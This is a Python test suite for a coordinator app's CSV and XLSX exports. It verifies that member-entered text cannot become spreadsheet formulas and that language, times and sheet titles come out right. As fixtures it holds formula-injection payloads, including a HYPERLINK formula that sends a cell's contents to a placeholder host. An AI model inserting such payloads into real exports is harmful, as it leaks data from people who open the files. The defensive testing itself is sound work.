"""Exports: no member's text becomes a formula in the coordinator's spreadsheet (CSV formula
injection), and XLSX shows the text as it is – phone numbers ``+47 …`` intact, no apostrophe."""

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from blueprints.coordinator.exports import FORMULA_START, csv_cell, sheet_title, to_csv, to_xlsx
from extensions import db
from models import ReviewResponse
from models import advice as advices
from models import review as reviews
from tests.conftest import sign_in

LINK = '=HYPERLINK("http://x/?"&A1,"klikk")'
PHONE = "+47 22 00 00 00"
HOSTILE = (LINK, PHONE, "@SUM(1)", "-1+2", "\t=1", "\r=1", "=1;2")


def csv_rows(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_no_formula_in_csv(rows):
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    return cells


def xlsx_cells(body):
    """Every cell of the workbook; and the sheet's XML holds no formula element at all."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return cells


@pytest.fixture
def hostile(create_member, municipality):
    """Members whose every free text is an attack (or a phone number)."""
    bergen = municipality("4601")
    return [
        create_member(bergen, name=LINK, phone=PHONE, unit="@SUM(1)", job_title="-1+2"),
        create_member(bergen, name="\t=1", phone="+4791234567", unit="=1;2", job_title='"=1"'),
    ]


def test_one_cell_rule_for_csv():
    for value in HOSTILE:
        assert csv_cell(value) == "'" + value
    assert [csv_cell(v) for v in ("Kari", "", None, 3, -2, 1.5)] == ["Kari", "", "", 3, -2, 1.5]
    assert csv_cell('"=1"') == '"=1"'  # a quote first is text to a spreadsheet; the csv module escapes it
    body, _mimetype = to_csv(["Navn"], [[v] for v in HOSTILE])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ["'" + v for v in HOSTILE]  # separators and quotes survive


def test_one_cell_rule_for_xlsx():
    body, _mimetype = to_xlsx(
        ["Navn", "Tall"], [[v, 7] for v in HOSTILE] + [["#N/A", -1], ["a\x00b\x1fc", None]]
    )
    cells = xlsx_cells(body)
    texts = [c.value for c in cells if c.column == 1]
    # As written (XML reads a carriage return as a line feed): no apostrophe, no formula, no error value.
    assert texts == ["Navn", *(v.replace("\r", "\n") for v in HOSTILE), "#N/A", "abc"]
    assert all(c.data_type == "s" for c in cells if c.column == 1)
    assert [c.value for c in cells if c.column == 2][1:3] == [7, 7] and cells[-3].value == -1


def test_the_member_lists_as_csv_and_xlsx(client, hostile, create_coordinator):
    sign_in(client, create_coordinator("NIK").email)
    for what in ("members", "emails"):
        cells = assert_no_formula_in_csv(
            csv_rows(client.get(f"/coordinator/overview/{what}.csv?network=NIK"))
        )
        assert "'" + LINK in cells and "'\t=1" in cells
        response = client.get(f"/coordinator/overview/{what}.xlsx?network=NIK")
        assert response.headers["Cache-Control"] == "no-store"
        values = [c.value for c in xlsx_cells(response.get_data())]
        assert LINK in values and "\t=1" in values
        if what == "members":
            cells_csv = cells
            assert "'" + PHONE in cells_csv and "'@SUM(1)" in cells_csv and "'-1+2" in cells_csv
            assert "'=1;2" in cells_csv and '"=1"' in cells_csv
            assert PHONE in values and "+4791234567" in values and "@SUM(1)" in values and "-1+2" in values
            assert not [v for v in values if isinstance(v, str) and v.startswith("'")]


def test_the_review_export(client, hostile, networks, create_coordinator):
    coordinator = create_coordinator("NIK")
    now = datetime.now(UTC)
    cycle = reviews.open_cycle(
        networks["NIK"], now.year, now + timedelta(days=21), now + timedelta(days=14), opened_by=coordinator
    )
    db.session.commit()
    for member in hostile:
        response = db.session.scalar(select(ReviewResponse).filter_by(cycle_id=cycle.id, member_id=member.id))
        reviews.answer(
            response,
            True,
            {key: 3 for key, _ in reviews.PURPOSES},
            {key: value for (key, _), value in zip(reviews.PURPOSES, HOSTILE, strict=False)},
            change_wish="-1+2",
        )
        db.session.commit()
    sign_in(client, coordinator.email)
    cells = assert_no_formula_in_csv(csv_rows(client.get(f"/reviews/cycle/{cycle.id}/export.csv")))
    assert {"'" + LINK, "'" + PHONE, "'@SUM(1)", "'-1+2", "'\t=1"} <= set(cells)


def test_the_advice_answers_export(client, hostile, networks, create_coordinator):
    coordinator = create_coordinator("NIK")
    now = datetime.now(UTC)
    request, _count = advices.post(
        "Tolking",
        "Hva mangler?",
        None,
        [networks["NIK"]],
        now + timedelta(days=14),
        now + timedelta(days=7),
        by=coordinator,
    )
    for member, body in zip(hostile, (LINK, "@SUM(1)"), strict=True):
        advices.answer(request, member, body)
    db.session.commit()
    sign_in(client, coordinator.email)
    cells = assert_no_formula_in_csv(csv_rows(client.get(f"/advice/{request.id}/answers.csv")))
    assert {"'" + LINK, "'@SUM(1)", "'\t=1"} <= set(cells)


def test_the_teams_list_and_the_members_own_export(app, client, hostile, create_coordinator):
    sign_in(client, create_coordinator("NIK").email)
    teams = client.get("/coordinator/teams/NIK/to-invite.txt")
    assert teams.mimetype == "text/plain" and teams.headers["Cache-Control"] == "no-store"
    assert teams.get_data(as_text=True) == f"{hostile[1].email}; {hostile[0].email}\n"  # addresses only
    own = app.test_client()
    sign_in(own, hostile[0].email)
    export = own.get("/me/export.json")
    assert export.mimetype == "application/json" and json.loads(export.get_data())["name"] == LINK


# -- the reader's language, and times a spreadsheet reads as times -------------------------------

EXCEL_TIME = re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$")
OSLO = ZoneInfo("Europe/Oslo")


def answered_cycle(networks, coordinator, members):
    now = datetime.now(UTC)
    cycle = reviews.open_cycle(
        networks["NIK"], now.year, now + timedelta(days=21), now + timedelta(days=14), opened_by=coordinator
    )
    db.session.commit()
    for member in members:
        response = db.session.scalar(select(ReviewResponse).filter_by(cycle_id=cycle.id, member_id=member.id))
        reviews.answer(response, True, {key: 4 for key, _ in reviews.PURPOSES}, {}, change_wish="=1")
        db.session.commit()
    return cycle


def test_the_member_list_speaks_the_readers_language(client, hostile, create_coordinator):
    sign_in(client, create_coordinator("NIK").email)
    nb = csv_rows(
        client.get("/coordinator/overview/members.csv?network=NIK", headers={"Accept-Language": "nb"})
    )
    assert nb[0] == [
        "Navn", "E-post", "Telefon", "Stilling", "Enhet", "Organisasjon",
        "Nummer", "Fylke", "Status", "Hovedkontakt", "Forankret av", "Forankret",
    ]  # fmt: skip
    assert {row[8] for row in nb[1:]} == {"Aktiv"}  # the status by its label, not "active"
    en = csv_rows(
        client.get("/coordinator/overview/members.csv?network=NIK", headers={"Accept-Language": "en"})
    )
    assert en[0][:2] == ["Name", "E-mail"] and en[0][-2:] == ["Anchored by", "Anchored"]
    assert {row[8] for row in en[1:]} == {"Active"}
    emails = csv_rows(
        client.get("/coordinator/overview/emails.csv?network=NIK", headers={"Accept-Language": "en"})
    )
    assert emails[0] == ["E-mail", "Name", "Organisation"]

    workbook = load_workbook(
        io.BytesIO(
            client.get(
                "/coordinator/overview/members.xlsx?network=NIK", headers={"Accept-Language": "nb"}
            ).get_data()
        )
    )
    assert workbook.active.title == "Deltakere NIK"
    assert [c.value for c in workbook.active[1]][:2] == ["Navn", "E-post"]


def test_the_review_export_names_each_purpose_and_writes_times_in_oslo(
    client, hostile, networks, create_coordinator
):
    coordinator = create_coordinator("NIK")
    cycle = answered_cycle(networks, coordinator, hostile)
    sign_in(client, coordinator.email)
    url = f"/reviews/cycle/{cycle.id}/export"
    shown = client.get(f"/reviews/cycle/{cycle.id}").get_data(as_text=True)
    assert f'href="{url}.csv"' in shown and f'href="{url}.xlsx"' in shown

    nb = csv_rows(client.get(url + ".csv", headers={"Accept-Language": "nb"}))
    header = nb[0]
    assert "Poeng: Kompetanse og samarbeid" in header and "Kommentar: Folkehelse" in header
    assert not [h for h in header if re.search(r"(Score|Poeng) \d", h)]
    asked, answered = header.index("Spurt"), header.index("Svart")
    for row in nb[1:]:
        assert EXCEL_TIME.match(row[asked]) and EXCEL_TIME.match(row[answered]), row
        assert row[header.index("Avgjørelse")] == "Deltar"
    assert_no_formula_in_csv(nb)
    en = csv_rows(client.get(url + ".csv", headers={"Accept-Language": "en"}))
    assert "Score: Competence and cooperation" in en[0] and "Asked" in en[0]

    # Oslo's wall-clock time, not UTC: the export's time is the one the app shows.
    response = db.session.scalar(select(ReviewResponse).filter_by(cycle_id=cycle.id, member_id=hostile[0].id))
    oslo = response.asked_at.astimezone(OSLO)
    assert oslo.strftime("%Y-%m-%d %H:%M") in [row[asked] for row in nb[1:]]

    body = client.get(url + ".xlsx", headers={"Accept-Language": "nb"}).get_data()
    cells = xlsx_cells(body)  # no formula in the workbook either
    assert LINK in [c.value for c in cells]
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.title == f"Gjennomgang {cycle.year} NIK"
    times = [row[asked] for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(c.value, datetime) and c.value.tzinfo is None for c in times)
    assert all(c.number_format == "yyyy-mm-dd hh:mm" for c in times)
    assert oslo.replace(tzinfo=None, second=0, microsecond=0) in [
        c.value.replace(second=0, microsecond=0) for c in times
    ]
    assert "=1" in [c.value for row in sheet.iter_rows(min_row=2) for c in row]  # text, not a formula


def test_the_advice_export_writes_times_excel_reads(client, hostile, networks, create_coordinator):
    coordinator = create_coordinator("NIK")
    now = datetime.now(UTC)
    request, _count = advices.post(
        "Tolking: hva [mangler]?",
        "Hva mangler?",
        None,
        [networks["NIK"]],
        now + timedelta(days=14),
        now + timedelta(days=7),
        by=coordinator,
    )
    advices.answer(request, hostile[0], LINK)
    db.session.commit()
    sign_in(client, coordinator.email)
    shown = client.get(f"/advice/{request.id}/answers").get_data(as_text=True)
    assert (
        f'href="/advice/{request.id}/answers.csv"' in shown
        and f'href="/advice/{request.id}/answers.xlsx"' in shown
    )
    rows = csv_rows(client.get(f"/advice/{request.id}/answers.csv", headers={"Accept-Language": "en"}))
    assert rows[0] == ["Name", "E-mail", "Organisation", "Answered", "Changed", "Advice"]
    assert EXCEL_TIME.match(rows[1][3]) and rows[1][4] == ""
    body = client.get(f"/advice/{request.id}/answers.xlsx", headers={"Accept-Language": "nb"}).get_data()
    assert LINK in [c.value for c in xlsx_cells(body)]
    title = load_workbook(io.BytesIO(body)).active.title
    assert title.startswith("Innspill Tolking") and len(title) <= 31 and not set("[]:*?/\\") & set(title)


def test_a_sheet_title_excel_accepts():
    assert sheet_title("Gjennomgang 2026 NIK") == "Gjennomgang 2026 NIK"
    long = sheet_title("Innspill [utkast]: tolk/tolketjenester? *viktig* \\ " + "x" * 40)
    assert len(long) <= 31 and not set("[]:*?/\\") & set(long) and long.startswith("Innspill utkast tolk")
    assert sheet_title("???") == "Sheet"
